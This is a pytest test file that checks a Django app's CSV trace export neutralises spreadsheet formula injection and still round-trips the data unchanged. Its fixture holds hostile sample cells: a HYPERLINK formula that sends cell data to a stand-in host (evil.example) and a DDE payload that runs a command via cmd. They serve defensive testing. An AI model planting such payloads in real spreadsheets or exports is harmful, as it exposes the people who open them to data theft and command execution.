"""`export_traces --format csv` writes no cell a spreadsheet would run as a formula, and still reads back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from annotation.models import Trace
from tests.factories import make_user

pytestmark = pytest.mark.django_db

FORMULAS = [
    {"id": "f-1", "input": '=HYPERLINK("http://evil.example/?d="&A1, "click")', "output": "+1+2"},
    {"id": "f-2", "input": "-2+3", "output": "@SUM(A1:A9)", "session_id": "=cmd|' /C calc'!A0"},
    {"id": "f-3", "input": "\t=1+1", "output": "'=already quoted", "source": "=evil"},
    {"id": "f-4", "input": "plain text", "output": "a = b, not a formula"},
]


def _import(slug: str, path, *extra: str) -> None:
    call_command("import_traces", "--project", slug, *extra, str(path), stdout=io.StringIO(), stderr=io.StringIO())


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(project, tmp_path):
    source = tmp_path / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in FORMULAS), encoding="utf-8")
    _import("acme", source)
    out = tmp_path / "out.csv"
    call_command("export_traces", "--project", "acme", "--format", "csv", str(out), stderr=io.StringIO())

    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row.values() if cell]
    formula_like = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert formula_like == []
    by_id = {row["id"]: row for row in rows}
    assert by_id["f-1"]["input"].startswith("'=HYPERLINK(")
    assert by_id["f-2"]["session_id"] == "'=cmd|' /C calc'!A0"
    assert by_id["f-3"]["output"] == "''=already quoted"  # one more apostrophe, so the import removes exactly one
    assert by_id["f-4"]["output"] == "a = b, not a formula"

    make_user("bob")
    _import("copy", out, "--create-project", "--expert", "bob")
    copied = {t.external_id: t for t in Trace.objects.filter(project__slug="copy")}
    for record in FORMULAS:
        trace = copied[record["id"]]
        for field in ("input", "output", "session_id", "source"):
            if field in record:
                assert getattr(trace, field) == record[field], (record["id"], field)
